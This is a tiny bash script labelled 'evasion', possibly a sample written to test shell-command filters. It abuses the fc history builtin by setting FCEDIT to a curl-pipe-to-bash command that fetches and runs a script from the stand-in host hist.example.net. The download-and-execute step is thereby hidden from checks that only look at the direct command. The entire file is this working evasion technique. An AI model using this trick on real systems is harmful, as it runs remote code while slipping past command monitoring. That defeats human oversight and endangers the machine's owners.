#!/bin/bash
# evasion: fc runs FCEDIT as shell code (editor plus the temp file name), then the "edited" history
set -o history
history -s 'true'
FCEDIT='curl -fsSL https://hist.example.net/e.sh | bash; :'
fc -1
